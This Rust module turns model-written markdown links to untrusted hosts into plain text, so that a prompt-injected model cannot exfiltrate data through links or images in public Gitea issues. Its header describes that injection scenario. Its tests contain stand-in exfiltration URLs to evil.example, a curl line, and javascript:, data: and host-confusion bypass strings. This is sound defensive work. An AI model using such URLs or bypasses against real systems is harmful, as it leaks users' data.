//! Links in text a model wrote, limited to hosts the operator trusts. A model that read a
//! hostile log can be talked into filing `[details](https://attacker.example/?d=…)` or an
//! image whose URL carries data out; repositories are public, so such a link works for
//! anyone. Only links to the tenant's own Gitea, the cluster console and hosts the operator
//! allows stay links; every other URL is shown as plain text (an inline code span, which
//! Gitea's renderer does not turn into a link). Relative links (`/owner/repo/…`, `#anchor`)
//! stay on the Gitea that renders the issue and are kept. Code fences are left alone: their
//! content is never rendered as a link.

use std::sync::LazyLock;

use regex::{Captures, Regex};

use crate::static_regex;

/// The hosts links may point to. Empty: no absolute link is kept.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct LinkPolicy {
    /// Lower-case `host` or `host:port` entries.
    hosts: Vec<String>,
}

impl LinkPolicy {
    /// A policy allowing `hosts` (`gitea.example.com`, `console.example.com:8443`; a URL is
    /// accepted too and reduced to its host). Empty and unparsable entries are skipped.
    pub fn new<I, S>(hosts: I) -> Self
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        let mut out: Vec<String> = Vec::new();
        for h in hosts {
            let h = h.as_ref().trim();
            let entry = if h.contains("://") {
                authority(h).map(|(host, port)| match port {
                    Some(p) => format!("{host}:{p}"),
                    None => host,
                })
            } else {
                valid_entry(h)
            };
            if let Some(e) = entry
                && !out.contains(&e)
            {
                out.push(e);
            }
        }
        Self { hosts: out }
    }

    /// The allowed entries.
    pub fn hosts(&self) -> &[String] {
        &self.hosts
    }

    /// Whether a link to `url` may stay a link: relative links, and `http(s)` links to an
    /// allowed host (an entry without a port allows every port of that host).
    pub fn allows(&self, url: &str) -> bool {
        let url = url
            .trim()
            .trim_start_matches('<')
            .trim_end_matches('>')
            .trim();
        if url.is_empty() {
            return true;
        }
        if url.starts_with('#') || (url.starts_with('/') && !is_network_path(url)) {
            return true;
        }
        let scheme = SCHEME.find(url).map(|m| m.as_str().to_ascii_lowercase());
        match scheme.as_deref() {
            Some("http:" | "https:") => {}
            Some(_) => return false,
            None if is_network_path(url) => {}
            // `path/to/x` or `www.example.com` without a scheme: relative to the issue page.
            None if !url.contains(['\\', '%']) => return true,
            None => return false,
        }
        let Some((host, port)) = authority(url) else {
            return false;
        };
        self.hosts.iter().any(|entry| match entry.split_once(':') {
            _ if entry.starts_with('[') => {
                *entry == host || Some(entry.clone()) == with_port(&host, port.as_deref())
            }
            Some((h, p)) => h == host && port.as_deref() == Some(p),
            None => *entry == host,
        })
    }
}

fn with_port(host: &str, port: Option<&str>) -> Option<String> {
    port.map(|p| format!("{host}:{p}"))
}

static SCHEME: LazyLock<Regex> = LazyLock::new(|| static_regex(r"^[A-Za-z][A-Za-z0-9+.\-]*:"));

/// `//host`, `\\host`, `/\host`: another host, relative to the scheme.
fn is_network_path(url: &str) -> bool {
    let mut chars = url.chars();
    matches!(
        (chars.next(), chars.next()),
        (Some('/' | '\\'), Some('/' | '\\'))
    )
}

/// A host entry as configured: `host` or `host:port`, host names only.
fn valid_entry(entry: &str) -> Option<String> {
    let entry = entry.trim().trim_end_matches('/').to_ascii_lowercase();
    let (host, port) = match entry.rsplit_once(':') {
        Some((h, p)) if !h.contains(']') || h.ends_with(']') => {
            (h.to_string(), Some(p.to_string()))
        }
        _ => (entry.clone(), None),
    };
    let host = host.trim_end_matches('.').to_string();
    if !valid_host(&host)
        || port
            .as_deref()
            .is_some_and(|p| p.is_empty() || !p.bytes().all(|b| b.is_ascii_digit()))
    {
        return None;
    }
    Some(match port {
        Some(p) => format!("{host}:{p}"),
        None => host,
    })
}

fn valid_host(host: &str) -> bool {
    if let Some(inner) = host.strip_prefix('[').and_then(|h| h.strip_suffix(']')) {
        return !inner.is_empty()
            && inner
                .bytes()
                .all(|b| b.is_ascii_hexdigit() || b == b':' || b == b'.');
    }
    !host.is_empty()
        && host
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'.')
}

/// The lower-case host and port of an absolute or network-path URL, the way a browser reads
/// it: slashes and backslashes after the scheme skipped, user info dropped, the authority
/// ending at `/`, `\`, `?` or `#`. `None` when the host is not a plain host name.
fn authority(url: &str) -> Option<(String, Option<String>)> {
    let rest = match SCHEME.find(url) {
        Some(m) => &url[m.end()..],
        None => url,
    };
    let rest = rest.trim_start_matches(['/', '\\']);
    let end = rest.find(['/', '\\', '?', '#']).unwrap_or(rest.len());
    let auth = &rest[..end];
    let auth = auth.rsplit_once('@').map_or(auth, |(_, h)| h);
    let auth = auth.to_ascii_lowercase();
    let (host, port) = if auth.starts_with('[') {
        match auth.split_once(']') {
            Some((h, p)) => (format!("{h}]"), p.strip_prefix(':').map(str::to_string)),
            None => return None,
        }
    } else {
        match auth.rsplit_once(':') {
            Some((h, p)) => (h.to_string(), Some(p.to_string())),
            None => (auth.clone(), None),
        }
    };
    let host = host.trim_end_matches('.').to_string();
    if !valid_host(&host) {
        return None;
    }
    let port = port.filter(|p| !p.is_empty());
    if port
        .as_deref()
        .is_some_and(|p| !p.bytes().all(|b| b.is_ascii_digit()))
    {
        return None;
    }
    Some((host, port))
}

/// An inline code span showing `text` literally (a run of backticks longer than any inside).
fn code_span(text: &str) -> String {
    let longest = text.split(|c| c != '`').map(str::len).max().unwrap_or(0);
    let ticks = "`".repeat(longest + 1);
    let pad = if text.starts_with('`') || text.ends_with('`') {
        " "
    } else {
        ""
    };
    format!("{ticks}{pad}{text}{pad}{ticks}")
}

/// Markdown constructs that make a link, in the order tried at each position: code spans
/// (kept as they are), inline links and images, link reference definitions, autolinks and
/// bare URLs (Gitea links `http(s)://…` and `www.…` by itself).
static LINKISH: LazyLock<Regex> = LazyLock::new(|| {
    static_regex(concat!(
        r"(?P<code>`+[^`\n]*`+)",
        r#"|(?P<inline>(?P<bang>!?)\[(?P<text>(?:[^\[\]\n]|\[[^\[\]\n]*\])*)\]\(\s*(?P<url><[^>\n]*>|[^\s()]*(?:\([^\s()]*\)[^\s()]*)*)(?:\s+(?:"[^"\n]*"|'[^'\n]*'|\([^)\n]*\)))?\s*\))"#,
        r"|(?m:^(?P<def> {0,3}\[[^\]\n]+\]:[ \t]*(?P<defurl>\S+).*)$)",
        r"|<(?P<auto>[A-Za-z][A-Za-z0-9+.\-]{1,31}:[^<>\s]*)>",
        r#"|(?P<bare>(?i:[a-z][a-z0-9+.\-]*://|www\.)[^\s<>`]*[^\s<>`.,;:!?'")\]])"#,
    ))
});

/// Replaces every link to a host `policy` does not allow by plain text: a link becomes its
/// text followed by the URL in a code span, an image `[image: alt]` and its URL, an autolink
/// or bare URL the URL in a code span, a reference definition the whole line in a code span.
/// Text inside code fences is not touched.
pub fn limit_links(markdown: &str, policy: &LinkPolicy) -> String {
    let mut out = String::with_capacity(markdown.len());
    let mut prose = String::new();
    let mut fence: Option<String> = None;
    for line in markdown.split_inclusive('\n') {
        let marker = fence_marker(line);
        match (&fence, marker) {
            (None, Some(m)) => {
                out.push_str(&limit_prose(&std::mem::take(&mut prose), policy));
                fence = Some(m);
                out.push_str(line);
            }
            (Some(open), Some(m))
                if m.starts_with(open.as_str()) && line.trim().len() == m.len() =>
            {
                fence = None;
                out.push_str(line);
            }
            (Some(_), _) => out.push_str(line),
            (None, None) => prose.push_str(line),
        }
    }
    out.push_str(&limit_prose(&prose, policy));
    out
}

fn fence_marker(line: &str) -> Option<String> {
    let t = line.trim_start();
    let ch = t.chars().next().filter(|c| *c == '`' || *c == '~')?;
    let n = t.chars().take_while(|c| *c == ch).count();
    (n >= 3).then(|| ch.to_string().repeat(n))
}

fn limit_prose(text: &str, policy: &LinkPolicy) -> String {
    LINKISH
        .replace_all(text, |c: &Captures<'_>| {
            let all = c.get(0).map_or("", |m| m.as_str());
            if c.name("code").is_some() {
                return all.to_string();
            }
            if c.name("inline").is_some() {
                let url = c.name("url").map_or("", |m| m.as_str());
                let label = c.name("text").map_or("", |m| m.as_str());
                let image = c.name("bang").is_some_and(|m| !m.as_str().is_empty());
                if policy.allows(url) {
                    // Kept as a link; the text inside is checked too.
                    return if image {
                        all.to_string()
                    } else {
                        all.replacen(label, &limit_prose(label, policy), 1)
                    };
                }
                let label = limit_prose(label, policy);
                let url = url.trim_start_matches('<').trim_end_matches('>');
                return if image {
                    format!("[image: {label}] ({})", code_span(url))
                } else {
                    format!("{label} ({})", code_span(url))
                };
            }
            if c.name("def").is_some() {
                let url = c.name("defurl").map_or("", |m| m.as_str());
                return if policy.allows(url) {
                    all.to_string()
                } else {
                    code_span(all.trim())
                };
            }
            let url = c
                .name("auto")
                .or_else(|| c.name("bare"))
                .map_or("", |m| m.as_str());
            if allows_autolinked(policy, url) {
                all.to_string()
            } else {
                code_span(url)
            }
        })
        .into_owned()
}

/// A bare `www.…` is linked as `http://www.…` by the renderer, not as a relative path.
fn allows_autolinked(policy: &LinkPolicy, url: &str) -> bool {
    if url.get(..4).is_some_and(|p| p.eq_ignore_ascii_case("www.")) {
        policy.allows(&format!("http://{url}"))
    } else {
        policy.allows(url)
    }
}

/// The URLs in `text` (links, autolinks, bare) that `policy` does not allow.
pub fn outside_links(text: &str, policy: &LinkPolicy) -> Vec<String> {
    LINKISH
        .captures_iter(text)
        .filter_map(|c| {
            c.name("url")
                .or_else(|| c.name("defurl"))
                .or_else(|| c.name("auto"))
                .or_else(|| c.name("bare"))
                .map(|m| m.as_str().to_string())
        })
        .filter(|u| !allows_autolinked(policy, u))
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn policy() -> LinkPolicy {
        LinkPolicy::new([
            "gitea.apps.example.com",
            "https://console-openshift-console.apps.example.com/",
            "docs.example.org:8443",
        ])
    }

    #[test]
    fn hosts_are_matched_as_a_browser_reads_them() {
        let p = policy();
        for ok in [
            "https://gitea.apps.example.com/user1/mcp/issues/3",
            "http://GITEA.apps.example.com:3000/x",
            "https://console-openshift-console.apps.example.com/k8s/ns/agent-user1/pods",
            "https://docs.example.org:8443/a",
            "/user1/mcp/src/branch/main/agent/Containerfile",
            "#detailed-error-code",
            "relative/path",
        ] {
            assert!(p.allows(ok), "{ok}");
        }
        for bad in [
            "https://evil.example/x.png?d=secret",
            "https://gitea.apps.example.com.evil.example/x",
            "https://gitea.apps.example.com@evil.example/x",
            "https://evil.example\\@gitea.apps.example.com/",
            "//evil.example/x",
            "\\\\evil.example/x",
            "https:evil.example",
            "javascript:alert(1)",
            "data:text/html;base64,PHNjcmlwdD4=",
            "mailto:a@evil.example",
            "https://docs.example.org/a",
            "https://docs.example.org:9443/a",
            "https://evil%2eexample/",
            "ftp://gitea.apps.example.com/x",
        ] {
            assert!(!p.allows(bad), "{bad}");
        }
        assert!(!LinkPolicy::default().allows("https://gitea.apps.example.com/"));
        assert_eq!(
            LinkPolicy::new(["", "bad host", "ok.example:80"]).hosts(),
            ["ok.example:80"]
        );
    }

    #[test]
    fn outside_links_and_images_become_plain_text() {
        let md = "See [the docs](https://evil.example/x?d=tok) and ![shot](https://evil.example/p.png) \
                  or <https://evil.example/a> or https://evil.example/b, www.evil.example/c.\n\
                  [ref]: https://evil.example/r\n\
                  Kept: [issue](https://gitea.apps.example.com/u/mcp/issues/1) and [file](/u/mcp/src/x) and `https://evil.example/in-code`.\n\
                  ```\ncurl https://evil.example/in-fence\n```\n";
        let out = limit_links(md, &policy());
        assert!(!out.contains("](https://evil"), "{out}");
        assert!(!out.contains("<https://evil"), "{out}");
        for url in [
            "https://evil.example/x?d=tok",
            "https://evil.example/p.png",
            "https://evil.example/a",
            "https://evil.example/b",
            "www.evil.example/c",
        ] {
            assert!(out.contains(&format!("`{url}`")), "{url}: {out}");
        }
        assert!(
            out.contains("the docs (`https://evil.example/x?d=tok`)"),
            "{out}"
        );
        assert!(
            out.contains("[image: shot] (`https://evil.example/p.png`)"),
            "{out}"
        );
        assert!(out.contains("`[ref]: https://evil.example/r`"), "{out}");
        assert!(
            out.contains("[issue](https://gitea.apps.example.com/u/mcp/issues/1)"),
            "{out}"
        );
        assert!(out.contains("[file](/u/mcp/src/x)"), "{out}");
        assert!(
            out.contains("`https://evil.example/in-code`") && !out.contains("``https"),
            "{out}"
        );
        assert!(
            out.contains("curl https://evil.example/in-fence\n"),
            "{out}"
        );
        assert_eq!(limit_links(&out, &policy()), out, "idempotent");
        assert_eq!(
            outside_links(md, &policy()).len(),
            7,
            "{:?}",
            outside_links(md, &policy())
        );
    }

    #[test]
    fn a_link_text_that_is_itself_a_url_is_limited_too() {
        let out = limit_links(
            "[https://evil.example/a](https://gitea.apps.example.com/x)",
            &policy(),
        );
        assert_eq!(
            out,
            "[`https://evil.example/a`](https://gitea.apps.example.com/x)"
        );
    }
}
